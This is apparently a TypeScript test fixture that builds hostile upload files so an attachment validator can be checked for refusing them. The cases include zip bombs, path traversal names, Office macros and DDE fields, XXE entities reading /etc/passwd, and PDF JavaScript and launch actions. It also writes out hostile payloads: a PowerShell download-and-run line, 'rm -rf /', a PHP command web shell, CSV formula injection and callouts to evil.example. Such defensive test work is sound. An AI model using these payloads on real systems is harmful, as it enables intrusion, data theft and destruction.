import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'
import type { RefusalKey } from '#src/registration/attachments/types.ts'
import {
  aDocx,
  aPdf,
  aPhoto,
  aXlsx,
  aZip,
  docxParts,
  type Part,
  relation,
  xlsxParts,
} from './good.ts'

/** A file that must not be kept, and the reasons that would be right. */
export type Hostile = { name: string; make: () => Buffer | Promise<Buffer>; reasons: RefusalKey[] }

const TEST_VIRUS = [
  String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$`,
  'EICAR-STANDARD-',
  'ANTIVIRUS-TEST-FILE!$H+H*',
].join('')
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex')
const MB = 2 ** 20

export function hostileFiles(): Hostile[] {
  return [
    ...wrongTypes(),
    ...bareBeginnings(),
    ...truncated(),
    ...pictures(),
    ...bombs(),
    ...names(),
    ...macros(),
    ...reachingOut(),
    ...entities(),
    ...embedded(),
    ...pdfs(),
    ...virus(),
    ...telephones(),
    ...archives(),
    ...tooBig(),
  ]
}

const one = (name: string, make: () => Buffer | Promise<Buffer>, ...reasons: RefusalKey[]) => ({
  name,
  make,
  reasons,
})
const hex = (text: string) => Buffer.concat([Buffer.from(text, 'hex'), Buffer.alloc(600)])

/** Things that are no picture and no document, whatever they are called. */
function wrongTypes(): Hostile[] {
  const texts: Record<string, string> = {
    html: '<!doctype html><script>alert(1)</script>',
    'html in capitals': '<HTML><BODY ONLOAD=alert(1)>',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'svg with a head':
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
    'svg bomb':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>',
    php: '<?php system($_GET["c"]); ?>',
    shell: '#!/bin/sh\nrm -rf /\n',
    javascript: 'require("child_process").exec("id")',
    python: 'import os; os.system("id")',
    batch: '@echo off\r\ndel c:\\*.*',
    powershell: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
    vbs: 'CreateObject("WScript.Shell").Run "calc"',
    hta: '<hta:application id=a><script>new ActiveXObject("a")</script>',
    rtf: '{\\rtf1\\ansi{\\object\\objautlink}}',
    csv: '=cmd|"/C calc"!A0',
    json: '{"a":1}',
    text: 'xin chào',
    xml: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    mht: 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\n',
    eml: 'From: a@b\r\nTo: c@d\r\nSubject: e\r\n\r\nf',
    url: '[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe',
    postscript: '%!PS-Adobe-3.0\n(id) run',
    ghostscript: '%!PS\n{null .setdevice (%pipe%id) (r) file} stopped',
    'imagemagick script': 'push graphic-context\nfill "url(https://x/a.jpg|id")\n',
    'image playlist': '#EXTM3U\nfile:///etc/passwd',
    latex: '\\input{/etc/passwd}',
    sylk: 'ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F',
  }
  const bytes: Record<string, string> = {
    exe: '4d5a90000300000004000000ffff0000b800',
    elf: '7f454c4602010100000000000000000002003e00',
    'mach-o': 'cffaedfe07000001',
    class: 'cafebabe00000034',
    wasm: '0061736d01000000',
    gif: '47494638396101000100800000000000ffffff',
    bmp: '424d3a000000000000003600000028000000',
    tiff: '49492a0008000000',
    'big tiff': '4d4d002a00000008',
    ico: '00000100010010100000',
    psd: '384250530001000000000000',
    jp2: '0000000c6a5020200d0a870a',
    jxl: '0000000c4a584c200d0a870a',
    flif: '464c494646',
    mp4: '0000001866747970697366340000000069736f6d',
    mov: '00000014667479707174202000000000',
    mp3: '494433030000000000',
    ogg: '4f67675300020000000000000000',
    webm: '1a45dfa39f4286810142f7810142f281044282847765626d',
    avi: '52494646ffffff7f41564920',
    wav: '52494646ffffff7f57415645',
    swf: '4357530a00000000',
    woff: '774f4646000100000000',
    sqlite: '53514c69746520666f726d6174203300',
    lnk: '4c0000000114020000000000c000000000000046',
    asf: '3026b2758e66cf11a6d900aa0062ce6c',
    djvu: '41542654464f524d00000000444a5655',
    random: '8c1f0e77aa5512349900ffeeddccbbaa',
  }
  return [
    ...Object.entries(texts).map(([name, text]) => one(name, () => Buffer.from(text), 'type')),
    ...Object.entries(bytes).map(([name, start]) => one(name, () => hex(start), 'type')),
  ]
}

function bareBeginnings(): Hostile[] {
  const php = Buffer.from('<?php system("id"); ?>'.repeat(50))
  const starts = {
    jpeg: 'ffd8ffe000104a46494600010100000100010000',
    png: '89504e470d0a1a0a0000000d49484452',
    webp: '524946460000010057454250565038200000010030010000',
    pdf: '255044462d312e370a',
    zip: '504b030414000000',
  }
  return [
    one('nothing', () => Buffer.alloc(0), 'empty'),
    one('one byte', () => Buffer.from('a'), 'type'),
    one('zeros', () => Buffer.alloc(5000), 'type'),
    ...Object.entries(starts).flatMap(([name, start]) => [
      one(`${name}: only its first bytes`, () => Buffer.from(start, 'hex'), 'damaged', 'disguised'),
      one(
        `${name}: a program behind its first bytes`,
        () => Buffer.concat([Buffer.from(start, 'hex'), php]),
        ...(['damaged', 'disguised', 'pixels'] as const),
      ),
      one(
        `${name}: zeros behind its first bytes`,
        () => Buffer.concat([Buffer.from(start, 'hex'), Buffer.alloc(50_000)]),
        ...(['damaged', 'disguised', 'pixels'] as const),
      ),
    ]),
  ]
}

function truncated(): Hostile[] {
  const whole: Record<string, () => Buffer | Promise<Buffer>> = {
    jpeg: () => aPhoto('jpeg'),
    png: () => aPhoto('png'),
    webp: () => aPhoto('webp'),
    pdf: () => aPdf({ pages: 3 }),
    docx: () => aDocx(),
    xlsx: () => aXlsx(),
  }
  return Object.entries(whole).flatMap(([name, make]) =>
    [0.2, 0.4, 0.6, 0.8].map((share) =>
      one(
        `${name} cut off at ${share}`,
        async () => {
          const bytes = await make()
          return bytes.subarray(0, Math.floor(bytes.length * share))
        },
        ...(['damaged', 'disguised'] as const),
      ),
    ),
  )
}

/** A PNG of zeros that says how large it is, in a single bit a pixel. */
function aBlackPng(width: number, height: number, rows = height): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(data.length, 0)
    frame.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const pixels = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** The picture, saying it is as large as the format can say. */
async function aLyingJpeg(width: number, height: number): Promise<Buffer> {
  const bytes = await aPhoto('jpeg')
  const frame = bytes.indexOf(Buffer.from('ffc0', 'hex'))
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}

function pictures(): Hostile[] {
  const sizes: [number, number][] = [
    ...([
      [12_000, 12_000],
      [20_000, 20_000],
      [30_000, 30_000],
      [100_000, 1_000],
      [1_000, 100_000],
    ] as [number, number][]),
  ]
  const said: [number, number][] = [
    [65_500, 65_500],
    [65_535, 2_000],
    [9_000, 9_000],
  ]
  return [
    ...sizes.map(([width, height]) =>
      one(`a black PNG of ${width} × ${height}`, () => aBlackPng(width, height), 'pixels'),
    ),
    ...said.map(([width, height]) =>
      one(
        `a PNG that says ${width} × ${height}`,
        () => aBlackPng(width, height, 5),
        'pixels',
        'damaged',
      ),
    ),
    ...said.map(([width, height]) =>
      one(
        `a JPEG that says ${width} × ${height}`,
        () => aLyingJpeg(width, height),
        'pixels',
        'damaged',
      ),
    ),
    one('a PNG without pixels', () => aBlackPng(500, 500, 0), 'damaged'),
    one('a PNG of no width', () => aBlackPng(0, 100), 'damaged'),
    one('a JPEG of no height', () => aLyingJpeg(100, 0), 'damaged'),
    one(
      'a PNG with a zip before it',
      async () => Buffer.concat([aDocx(), await aPhoto('png')]),
      'disguised',
    ),
    one('a GIF with a zip behind it', () => Buffer.concat([hex('474946383961'), aDocx()]), 'type'),
  ]
}

/** So many megabytes of zeros, deflated without ever having them all. */
function packedZeros(megabytes: number): Buffer {
  const step = 10
  const block = deflateRawSync(Buffer.alloc(step * MB), { finishFlush: constants.Z_FULL_FLUSH })
  const end = Buffer.from('0300', 'hex')
  return Buffer.concat([...Array.from({ length: Math.ceil(megabytes / step) }, () => block), end])
}

function bombs(): Hostile[] {
  const zeros = (megabytes: number, changes: Partial<Part> = {}): Part => ({
    name: 'word/media/a.xml',
    bytes: '',
    packed: packedZeros(megabytes),
    size: Math.min(megabytes * MB, 2 ** 32 - 2),
    ...changes,
  })
  const sizes = [20, 60, 110, 500, 1_000, 4_000, 10_000]
  return [
    ...sizes.map((megabytes) =>
      one(
        `a DOCX of ${megabytes} MB unpacked`,
        () => aDocx('a', { extra: [zeros(megabytes)] }),
        'bomb',
        'damaged',
      ),
    ),
    ...sizes
      .slice(2)
      .map((megabytes) =>
        one(
          `an XLSX of ${megabytes} MB unpacked`,
          () => aXlsx('a', { extra: [zeros(megabytes)] }),
          'bomb',
          'damaged',
        ),
      ),
    ...[0, 100, 1_000_000].map((size) =>
      one(
        `2 GB that say ${size} bytes`,
        () => aDocx('a', { extra: [zeros(2_000, { size })] }),
        'bomb',
        'damaged',
      ),
    ),
    one(
      'a bomb as the document itself',
      () =>
        aZip(
          docxParts().map((part) =>
            part.name === 'word/document.xml'
              ? { ...part, packed: packedZeros(1_000), size: 1_000 * MB }
              : part,
          ),
        ),
      'bomb',
      'damaged',
    ),
    one(
      'a bomb as the list of types',
      () =>
        aZip(
          docxParts().map((part) =>
            part.name === '[Content_Types].xml'
              ? { ...part, packed: packedZeros(1_000), size: 1_000 * MB }
              : part,
          ),
        ),
      'bomb',
      'damaged',
    ),
    one(
      'fifty parts of 10 MB',
      () =>
        aDocx('a', {
          extra: Array.from({ length: 50 }, (_, n) => zeros(10, { name: `word/media/${n}.xml` })),
        }),
      'bomb',
      'damaged',
    ),
    one(
      '3,000 parts',
      () =>
        aDocx('a', {
          extra: Array.from({ length: 3_000 }, (_, n) => ({ name: `word/media/${n}`, bytes: 'a' })),
        }),
      'bomb',
    ),
    one(
      '60,000 parts',
      () =>
        aDocx('a', {
          extra: Array.from({ length: 60_000 }, (_, n) => ({
            name: `${n}`,
            bytes: '',
            packed: Buffer.from('0300', 'hex'),
          })),
        }),
      'bomb',
    ),
    one(
      'a wrong sum',
      () => aDocx('a', { extra: [{ name: 'word/a.xml', bytes: '<a/>', crc: 1 }] }),
      'damaged',
    ),
    one(
      'a part that says it is longer',
      () => aDocx('a', { extra: [{ name: 'word/a.xml', bytes: '<a/>', size: 999 }] }),
      'damaged',
    ),
    one(
      'a part of no deflate at all',
      () =>
        aDocx('a', {
          extra: [
            { name: 'word/a.xml', bytes: '', packed: Buffer.from('ffffffff', 'hex'), size: 9 },
          ],
        }),
      'damaged',
    ),
    one('a list that says more parts', () => aZip(docxParts(), { count: 40 }), 'disguised'),
    one('a list that says fewer parts', () => aZip(docxParts(), { count: 1 }), 'disguised'),
    one('XML of 100,000 levels', () => aDocx('<w:r>'.repeat(100_000)), 'bomb'),
    one(
      'a sealed part',
      () => aDocx('a', { extra: [{ name: 'word/a.xml', bytes: 'a', flags: 1 }] }),
      'encrypted',
    ),
    one(
      'a bomb in a document in a document',
      () =>
        aDocx('a', {
          extra: [{ name: 'word/embeddings/a.xlsx', bytes: aXlsx('a', { extra: [zeros(500)] }) }],
        }),
      'bomb',
      'damaged',
      'embedded',
    ),
  ]
}

function names(): Hostile[] {
  const paths = [
    '../a',
    '../../etc/passwd',
    'word/../../a',
    '/etc/passwd',
    '\\\\server\\a',
    'C:\\a',
    'word\\..\\..\\a',
    '..\\a',
    'a/../../../b.xml',
    'C:/windows/a',
  ]
  const doc = docxParts()
  return [
    ...paths.map((name) =>
      one(
        `a part called ${name}`,
        () => aDocx('a', { extra: [{ name, bytes: 'a' }] }),
        'disguised',
        'damaged',
      ),
    ),
    ...paths
      .slice(0, 4)
      .map((name) =>
        one(
          `a sheet's part called ${name}`,
          () => aXlsx('a', { extra: [{ name, bytes: 'a' }] }),
          'disguised',
          'damaged',
        ),
      ),
    one(
      'two parts of one name',
      () => aDocx('a', { extra: [{ name: 'word/document.xml', bytes: 'b' }] }),
      'damaged',
    ),
    one(
      'a link to elsewhere',
      () => aDocx('a', { extra: [{ name: 'word/a', bytes: '/etc/passwd', mode: 0o120777 }] }),
      'disguised',
    ),
    one(
      'another name in the second list',
      () => aDocx('a', { extra: [{ name: 'word/a.xml', localName: 'word/b.exe', bytes: 'a' }] }),
      'disguised',
    ),
    one(
      'bytes before the zip',
      () => Buffer.concat([Buffer.from('PK\x03\x04#!/bin/sh\nid\n'), aZip(doc)]),
      'disguised',
    ),
    one(
      'bytes before the zip, counted',
      () => Buffer.concat([Buffer.from('MZ program'), aZip(doc, { shift: 10 })]),
      'type',
      'archive',
    ),
    one(
      'bytes behind the zip',
      () => Buffer.concat([aZip(doc), Buffer.from('<script>alert(1)</script>')]),
      'disguised',
    ),
    one('two zips in a row', () => Buffer.concat([aZip(doc), aXlsx()]), 'disguised'),
    one(
      'a page in the comment',
      () => Buffer.concat([aZip(doc, { comment: 'a' }), Buffer.from('<html>')]),
      'disguised',
    ),
  ]
}

function macros(): Hostile[] {
  const types = {
    docm: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    dotm: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
    xlsm: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    xltm: 'application/vnd.ms-excel.template.macroEnabled.main+xml',
    xlam: 'application/vnd.ms-excel.addin.macroEnabled.main+xml',
  }
  const parts = [
    'word/vbaProject.bin',
    'word/VBAPROJECT.BIN',
    'word/vbaData.xml',
    'word/activeX/activeX1.xml',
    'customVbaProject.bin',
  ]
  return [
    ...Object.entries(types).map(([name, type]) =>
      one(name, () => (name.startsWith('x') ? aXlsx : aDocx)('a', { types: type }), 'macro'),
    ),
    ...parts.map((name) =>
      one(`a DOCX with ${name}`, () => aDocx('a', { extra: [{ name, bytes: OLE }] }), 'macro'),
    ),
    ...parts.map((name) =>
      one(
        `an XLSX with ${name}`,
        () => aXlsx('a', { extra: [{ name: name.replace('word', 'xl'), bytes: OLE }] }),
        'macro',
      ),
    ),
  ]
}

function reachingOut(): Hostile[] {
  const types = [
    'attachedTemplate',
    'oleObject',
    'image',
    'frame',
    'subDocument',
    'externalLinkPath',
    'customXml',
  ]
  const targets = ['https://evil.example/a.dotm', '\\\\evil.example\\a', 'file:///etc/passwd']
  const relations = types.flatMap((type) => targets.map((target) => ({ type, target })))
  const field = (text: string) => `</w:t><w:instrText>${text}</w:instrText><w:t>`
  return [
    ...relations.map(({ type, target }) =>
      one(
        `a ${type} from ${target}`,
        () =>
          aDocx('a', {
            extra: [{ name: 'word/_rels/document.xml.rels', bytes: relation(type, target) }],
          }),
        'external',
      ),
    ),
    one(
      'a workbook that reads another',
      () =>
        aXlsx('a', {
          extra: [
            {
              name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
              bytes: relation('externalLinkPath', 'https://evil.example/a.xlsx'),
            },
          ],
        }),
      'external',
    ),
    one(
      'a relation in UTF-16',
      () =>
        aDocx('a', {
          extra: [
            {
              name: 'word/_rels/document.xml.rels',
              bytes: Buffer.from(`\ufeff${relation('image', 'https://evil.example')}`, 'utf16le'),
            },
          ],
        }),
      'external',
    ),
    one(
      'DDEAUTO',
      () => aDocx(field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
      'external',
    ),
    one('DDE', () => aDocx(field(' DDE "cmd" "/c calc"')), 'external'),
    one(
      'DDE in a workbook',
      () =>
        aXlsx('a', {
          extra: [
            {
              name: 'xl/externalLinks/externalLink1.xml',
              bytes: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            },
          ],
        }),
      'external',
    ),
  ]
}

function entities(): Hostile[] {
  const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n} "${`&a${n ? n - 1 : ''};`.repeat(10)}">`).join('')}]>`
  const outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
  const wide = (encoding: 'le' | 'be') => {
    const bytes = Buffer.from(
      `\ufeff<?xml version="1.0" encoding="UTF-16"?>${outside}<a/>`,
      'utf16le',
    )
    return encoding === 'le' ? bytes : bytes.swap16()
  }
  const heads = {
    laughs,
    outside,
    parameter: '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/a.dtd"> %x;]>',
    small: '<!doctype a [<!entity x "y">]>',
    doctype: '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
  }
  const parts = [
    'word/styles.xml',
    'word/_rels/document.xml.rels',
    'docProps/core.xml',
    'customXml/item1.xml',
  ]
  return [
    ...Object.entries(heads).flatMap(([name, before]) => [
      one(`entities in a DOCX: ${name}`, () => aDocx('a', { before }), 'bomb'),
      one(`entities in an XLSX: ${name}`, () => aXlsx('a', { before }), 'bomb'),
    ]),
    ...parts.map((name) =>
      one(
        `entities in ${name}`,
        () => aDocx('a', { extra: [{ name, bytes: `${outside}<a/>` }] }),
        'bomb',
      ),
    ),
    one(
      'entities in UTF-16, little end first',
      () => aDocx('a', { extra: [{ name: 'word/a.xml', bytes: wide('le') }] }),
      'bomb',
    ),
    one(
      'entities in UTF-16, big end first',
      () => aDocx('a', { extra: [{ name: 'word/a.xml', bytes: wide('be') }] }),
      'bomb',
    ),
  ]
}

function embedded(): Hostile[] {
  const exe = hex('4d5a90000300000004000000ffff0000b800')
  const elf = hex('7f454c4602010100')
  const inside: [string, Buffer][] = [
    ['word/media/image1.png', exe],
    ['word/media/image1.jpeg', elf],
    ['word/media/image2.png', Buffer.from('#!/bin/sh\nid')],
    ['word/embeddings/oleObject1.bin', OLE],
    ['word/embeddings/a.docx', aDocx()],
    ['word/embeddings/a.xlsx', exe],
    ['word/media/a.zip', aZip([{ name: 'a', bytes: 'b' }])],
    ['word/fonts/a.odttf', aZip([{ name: 'a', bytes: 'b' }])],
    ['customXml/a.jar', aZip([{ name: 'META-INF/MANIFEST.MF', bytes: 'b' }])],
    ['docProps/thumbnail.jpeg', exe],
  ]
  return [
    ...inside.map(([name, bytes]) =>
      one(
        `a DOCX with ${name}`,
        () => aDocx('a', { extra: [{ name, bytes }] }),
        'embedded',
        'archive',
      ),
    ),
    one(
      'a chart of a chart of a chart',
      () =>
        aDocx('a', {
          extra: [
            {
              name: 'word/embeddings/a.xlsx',
              bytes: aXlsx('a', { extra: [{ name: 'xl/embeddings/b.xlsx', bytes: aXlsx() }] }),
            },
          ],
        }),
      'embedded',
    ),
    one(
      'a chart with a macro',
      () =>
        aDocx('a', {
          extra: [
            {
              name: 'word/embeddings/a.xlsx',
              bytes: aXlsx('a', { extra: [{ name: 'xl/vbaProject.bin', bytes: OLE }] }),
            },
          ],
        }),
      'macro',
    ),
  ]
}

function pdfs(): Hostile[] {
  const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
  const stream = (dictionary: string, body: Buffer) =>
    `<< ${dictionary} /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream`
  const packedJs = deflateSync(Buffer.from(`9 0 ${js}`))
  const packed = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packedJs)
  const file = stream('/Type /EmbeddedFile', Buffer.from('MZ'))
  const spec = '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 4 0 R >> >>'
  const active: Record<string, Buffer> = {
    'a program on opening': aPdf({ catalog: `/OpenAction ${js}` }),
    'a program among the names': aPdf({
      catalog: `/Names << /JavaScript << /Names [(a) ${js}] >> >>`,
    }),
    'a program under another spelling': aPdf({
      catalog: '/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>',
    }),
    'a program on closing': aPdf({ catalog: `/AA << /WC ${js} >>` }),
    'a program of a page': aPdf({ page: `/AA << /O ${js} >>` }),
    'a program of a button': aPdf({
      objects: [`<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /A ${js} >>`],
      page: '/Annots [4 0 R]',
    }),
    'a launch': aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'a launch under another spelling': aPdf({
      catalog: '/OpenAction << /S /#4caunch /F (cmd.exe) >>',
    }),
    'a film': aPdf({
      objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'],
      page: '/Annots [4 0 R]',
    }),
    'a form that is sent': aPdf({
      catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>',
    }),
    'data from outside': aPdf({ catalog: '/OpenAction << /S /ImportData /F (a.fdf) >>' }),
    'a page of another file': aPdf({ catalog: '/OpenAction << /S /GoToE /F (a.pdf) >>' }),
    'a program inside': aPdf({
      objects: [file],
      catalog: `/Names << /EmbeddedFiles << /Names [(a) ${spec}] >> >>`,
    }),
    'a program on a page': aPdf({
      objects: [file, `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${spec} >>`],
      page: '/Annots [5 0 R]',
    }),
  }
  const plain = aPdf()
  const text = plain.toString('latin1')
  const sealed = text.replace(
    'trailer\n<<',
    `trailer\n<< /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O (${'a'.repeat(32)}) /U (${'b'.repeat(32)}) >> /ID [(a) (a)]`,
  )
  const nested = `${'['.repeat(50_000)}${']'.repeat(50_000)}`
  const changed = (name: string, body: string, ...reasons: RefusalKey[]) =>
    one(`a PDF ${name}`, () => Buffer.from(body, 'latin1'), ...reasons)
  return [
    ...Object.entries(active).map(([name, bytes]) =>
      one(`a PDF with ${name}`, () => bytes, 'active'),
    ),
    one('a PDF with a program in a packed object', () => aPdf({ objects: [packed] }), 'active'),
    ...[501, 2_000, 10_000, 50_000].map((pages) =>
      one(`a PDF of ${pages} pages`, () => aPdf({ pages }), 'pages'),
    ),
    changed(
      'whose pages contain themselves',
      text.replace(/\/Kids \[[^\]]*\]/, '/Kids [2 0 R]'),
      'damaged',
      'slow',
      'memory',
    ),
    changed('with a password', sealed, 'encrypted', 'damaged'),
    changed('without its end', text.replace('%%EOF', ''), 'damaged'),
    changed('without objects', '%PDF-1.7\n%%EOF\n', 'damaged'),
    changed('without pages', text.replace('/Pages 2 0 R', ''), 'damaged'),
    changed(
      'of brackets',
      text.replace('/Pages', `/A ${nested} /Pages`),
      'damaged',
      'slow',
      'memory',
      'crashed',
    ),
    changed('behind a page', `<html><script>alert(1)</script>${text}`, 'disguised'),
    changed('behind a few bytes', `\n\n  ${text}`, 'disguised'),
    changed(
      'with a page at its beginning',
      text.replace('%\xe2\xe3\xcf\xd3', '<script>alert(1)</script>'),
      'disguised',
    ),
    one(
      'a PDF with a zip behind it',
      () => Buffer.concat([plain, aDocx()]),
      'disguised',
      'damaged',
    ),
    one(
      'a PDF with a zip in its tail',
      () => Buffer.concat([plain, aZip([{ name: 'a', bytes: 'b' }]), Buffer.from('%%EOF')]),
      'disguised',
    ),
    one(
      'a PDF with a program behind it',
      () => Buffer.concat([plain, Buffer.alloc(5_000, 'MZ program')]),
      'disguised',
    ),
    one('a zip with a PDF behind it', () => Buffer.concat([aDocx(), plain]), 'disguised'),
  ]
}

function virus(): Hostile[] {
  return [
    one('the test virus', () => Buffer.from(TEST_VIRUS), 'virus'),
    one('the test virus with a line behind it', () => Buffer.from(`${TEST_VIRUS}\r\n`), 'virus'),
    one('the test virus in a PDF', () => aPdf({ objects: [`(${TEST_VIRUS})`] }), 'virus'),
    one(
      'the test virus behind a picture',
      async () => Buffer.concat([await aPhoto(), Buffer.from(TEST_VIRUS)]),
      'virus',
    ),
    one(
      'the test virus in a DOCX',
      () => aDocx('a', { extra: [{ name: 'word/media/a.png', bytes: TEST_VIRUS }] }),
      'virus',
    ),
    one(
      'the test virus in an XLSX',
      () => aXlsx('a', { extra: [{ name: 'xl/a.xml', bytes: TEST_VIRUS }] }),
      'virus',
    ),
    one('the test virus as a comment', () => aZip(docxParts(), { comment: TEST_VIRUS }), 'virus'),
  ]
}

function telephones(): Hostile[] {
  const brands = ['heic', 'heix', 'hevc', 'heim', 'heis', 'mif1', 'msf1']
  return [
    ...brands.map((brand) =>
      one(
        `a HEIC of the brand ${brand}`,
        () =>
          Buffer.concat([
            hex('00000018').subarray(0, 4),
            Buffer.from(`ftyp${brand}`),
            Buffer.alloc(600),
          ]),
        'heic',
      ),
    ),
    one(
      'an AVIF',
      () =>
        Buffer.concat([hex('00000018').subarray(0, 4), Buffer.from('ftypavif'), Buffer.alloc(600)]),
      'type',
    ),
  ]
}

function archives(): Hostile[] {
  const zip = (...paths: string[]) => aZip(paths.map((name) => ({ name, bytes: 'a' })))
  const sealed = Buffer.concat([
    OLE,
    Buffer.alloc(600),
    Buffer.from('EncryptedPackage', 'utf16le'),
    Buffer.alloc(600),
  ])
  return [
    one('a zip', () => zip('a.txt'), 'archive'),
    one('a jar', () => zip('META-INF/MANIFEST.MF', 'A.class'), 'archive'),
    one('an apk', () => zip('AndroidManifest.xml', 'classes.dex'), 'archive'),
    one('an odt', () => zip('mimetype', 'content.xml'), 'archive'),
    one('an epub', () => zip('mimetype', 'META-INF/container.xml'), 'archive'),
    one('a pptx', () => zip('[Content_Types].xml', 'ppt/presentation.xml'), 'archive'),
    one('a workbook in binary', () => zip('[Content_Types].xml', 'xl/workbook.bin'), 'archive'),
    one(
      'a document that is a workbook',
      () => aZip([...docxParts().slice(0, 2), ...xlsxParts().slice(2)]),
      'archive',
    ),
    one('an empty zip', () => Buffer.from('PK\x05\x06'.padEnd(22, '\0')), 'archive'),
    one('a gzip', () => hex('1f8b0800000000000003'), 'archive'),
    one('a rar', () => hex('526172211a0700cf9073'), 'archive'),
    one('a 7z', () => hex('377abcaf271c0004'), 'archive'),
    one('a bzip2', () => hex('425a6839314159265359'), 'archive'),
    one('an xz', () => hex('fd377a585a000004'), 'archive'),
    one('a doc', () => Buffer.concat([OLE, Buffer.alloc(1000)]), 'oldOffice'),
    one(
      'an xls with a macro',
      () => Buffer.concat([OLE, Buffer.alloc(500), Buffer.from('_VBA_PROJECT', 'utf16le')]),
      'oldOffice',
    ),
    one('a DOCX with a password', () => sealed, 'encrypted'),
  ]
}

function tooBig(): Hostile[] {
  const starts = ['ffd8ffe0', '89504e470d0a1a0a', '255044462d312e37', '504b0304']
  return starts.map((start) =>
    one(
      `20 MB and a byte behind ${start}`,
      () =>
        Buffer.concat([Buffer.from(start, 'hex'), Buffer.alloc(20 * MB + 1 - start.length / 2)]),
      'tooBig',
    ),
  )
}
